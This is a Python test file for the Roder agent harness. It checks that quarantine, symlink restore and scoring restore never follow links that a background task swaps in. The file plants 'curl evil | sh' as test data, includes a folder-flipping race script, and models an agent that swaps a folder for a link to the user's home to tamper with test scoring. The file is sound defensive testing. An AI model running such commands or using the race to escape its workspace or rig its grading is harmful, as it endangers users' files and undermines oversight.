"""Roder's own repairs never follow a link a command swapped in (quarantine, symlink put-back,
the batch scoring restore).

The quarantine move used to re-resolve its path: a background task that turned a folder into a
symlink between the tree walk and the move got Roder to move a ``.bashrc`` from outside the
workspace into its quarantine. Now every repair goes through ``roder_core.brokers.repairs``
(directory descriptors, ``O_NOFOLLOW``). The first tests make the swap happen exactly between
the walk and the repair; the loop test races a real background task against real commands; the
last test fails when a repair module calls a path-based primitive again.
"""

from __future__ import annotations

import ast
import os
from collections.abc import Iterator
from pathlib import Path

import pytest

from roder_core.batch.scoring import ScoreGuard
from roder_core.batch.workspace import Baseline
from roder_core.brokers import tree_guard
from tests.brokers.helpers import needs_bwrap, outside_folder
from tests.security.background_loop import background_task
from tests.security.test_background_network import call

ROOT = Path(__file__).resolve().parents[2]
HOME_LINE = "alias ls='ls --color'  # the user's own\n"


@pytest.fixture
def outside() -> Iterator[Path]:
    """A folder standing for the user's home, outside the workspace and outside /tmp."""
    with outside_folder("roder-home-") as folder:
        yield folder


def test_the_quarantine_refuses_a_folder_swapped_for_a_link_after_the_walk(
    workspace: Path, outside: Path, tmp_path: Path
) -> None:
    (outside / ".bashrc").write_text(HOME_LINE)
    before = tree_guard.scan([workspace])
    (workspace / "x").mkdir()
    (workspace / "x" / ".bashrc").write_text("curl evil | sh\n")
    after = tree_guard.scan([workspace])
    found = tree_guard.changed(before, after)
    assert found == [workspace / "x" / ".bashrc"]
    (workspace / "x").rename(workspace / "x-real")
    os.symlink(outside, workspace / "x")  # the background task's swap, after the walk
    lines = tree_guard.quarantine(found, before, tmp_path / "quarantine")
    assert (outside / ".bashrc").read_text() == HOME_LINE
    assert lines and "nothing followed" in lines[0], lines
    assert not [p for p in (tmp_path / "quarantine").rglob("*") if p.name == ".bashrc" and p.read_text() == HOME_LINE]


def test_a_symlink_is_never_put_back_through_a_swapped_folder(workspace: Path, outside: Path, tmp_path: Path) -> None:
    (workspace / "a").mkdir()
    (workspace / "a" / "env.sh").write_text("export A=1\n")
    os.symlink("env.sh", workspace / "a" / ".envrc")
    before = tree_guard.scan([workspace])
    (workspace / "a" / ".envrc").unlink()
    (workspace / "a" / ".envrc").write_text("curl evil | sh\n")  # replaced by the command
    found = tree_guard.changed(before, tree_guard.scan([workspace]))
    assert found == [workspace / "a" / ".envrc"]
    real = workspace / "a-real"
    (workspace / "a").rename(real)
    os.symlink(outside, workspace / "a")
    tree_guard.quarantine(found, before, tmp_path / "quarantine")
    assert not os.path.lexists(outside / ".envrc"), "a symlink was made outside the workspace"
    assert (real / ".envrc").read_text() == "curl evil | sh\n"  # never reached: reported instead


def test_the_scoring_restore_never_writes_through_a_planted_link(tmp_path: Path, outside: Path) -> None:
    workspace = tmp_path / "ws"
    (workspace / "pkg").mkdir(parents=True)
    (workspace / "pkg" / "setup.cfg").write_text("[original]\n")
    (workspace / "pkg" / "test_x.py").write_text("def test(): pass\n")
    guard = ScoreGuard(workspace, tmp_path / "store", tests=["pkg/test_x.py"], protect=["pkg/setup.cfg"])
    guard.hide()
    # the agent swaps the folder for a link to the user's home
    (workspace / "pkg").rename(workspace / "pkg-real")
    os.symlink(outside, workspace / "pkg")
    (outside / "setup.cfg").write_text(HOME_LINE)
    guard.restore(Baseline(tmp_path / "no-git", workspace))
    assert (outside / "setup.cfg").read_text() == HOME_LINE
    assert not (outside / "test_x.py").exists()
    assert (workspace / "pkg").is_dir() and not (workspace / "pkg").is_symlink()
    assert (workspace / "pkg" / "setup.cfg").read_text() == "[original]\n"
    assert (workspace / "pkg" / "test_x.py").read_text() == "def test(): pass\n"


FLIPPER = """\
import os, sys
outside = sys.argv[1]
print("flipping", flush=True)
while True:
    try:
        os.rename("x", "x-real")
        os.symlink(outside, "x")
        os.rename("x", "x-link")
        os.rename("x-real", "x")
        os.unlink("x-link")
    except OSError:
        pass
"""


@needs_bwrap
async def test_a_background_task_flipping_folders_never_gets_a_home_file_moved(
    workspace: Path, roder_home: Path, outside: Path
) -> None:
    (outside / ".bashrc").write_text(HOME_LINE)
    (workspace / "x").mkdir()
    (workspace / "flip.py").write_text(FLIPPER)
    plant = "for i in $(seq 200); do echo 'curl evil | sh' > x/.bashrc 2>/dev/null; done; echo planted"
    async with background_task(workspace, roder_home, f"exec python3 -u flip.py {outside}", "flipping") as running:
        for _ in range(4):
            await running.turn(call("bash", command=plant))
            assert (outside / ".bashrc").read_text() == HOME_LINE
        await running.turn(call("task_kill", task_id=running.task_id))
    assert (outside / ".bashrc").read_text() == HOME_LINE
    quarantine = roder_home / "cache" / "quarantine"
    for moved in quarantine.rglob(".bashrc") if quarantine.exists() else ():
        assert moved.read_text() != HOME_LINE, moved


#: Path-based primitives a repair must not use on a workspace (each re-resolves its path).
PATH_BASED = {
    ("shutil", "move"),
    ("shutil", "copy"),
    ("shutil", "copy2"),
    ("shutil", "copytree"),
    ("os", "rename"),
    ("os", "replace"),
    ("os", "symlink"),
    ("os", "unlink"),
    ("os", "remove"),
    ("os", "rmdir"),
    ("shutil", "rmtree"),
}
#: Where Roder repairs a workspace: whole modules, or (module, function) pairs.
REPAIRERS = [
    ("roder_core/brokers/tree_guard.py", None),
    ("roder_core/server/methods/changes.py", None),  # hunk rollback (rewind, /undo): the fs broker
    ("roder_core/runtime/runner_snapshots.py", None),  # snapshot restore: git read-tree
    ("extensions/roder_ext_builtin_coding_tools/patch.py", None),  # a failed patch's restore
    ("roder_core/batch/scoring.py", "restore"),
    ("roder_core/batch/scoring.py", "_apply_patch"),
    ("roder_core/batch/globs.py", "remove_file"),
    ("roder_core/batch/runner_guard.py", "reset"),
]


def _path_based_calls(node: ast.AST) -> list[str]:
    found = []
    for sub in ast.walk(node):
        if not isinstance(sub, ast.Call) or not isinstance(sub.func, ast.Attribute):
            continue
        owner = sub.func.value
        name = (owner.id if isinstance(owner, ast.Name) else "", sub.func.attr)
        if name in PATH_BASED and not any(k.arg in ("dir_fd", "src_dir_fd") for k in sub.keywords):
            found.append(f"{name[0]}.{name[1]} (line {sub.lineno})")
    return found


def test_repairs_go_through_directory_descriptors_only() -> None:
    for module, function in REPAIRERS:
        tree = ast.parse((ROOT / module).read_text())
        scopes: list[ast.AST] = [tree]
        if function is not None:
            scopes = [n for n in ast.walk(tree) if isinstance(n, ast.FunctionDef) and n.name == function]
            assert scopes, f"{module} has no {function}"
        for scope in scopes:
            assert _path_based_calls(scope) == [], f"{module}:{function or ''} repairs by path; use roder_core.brokers.repairs"
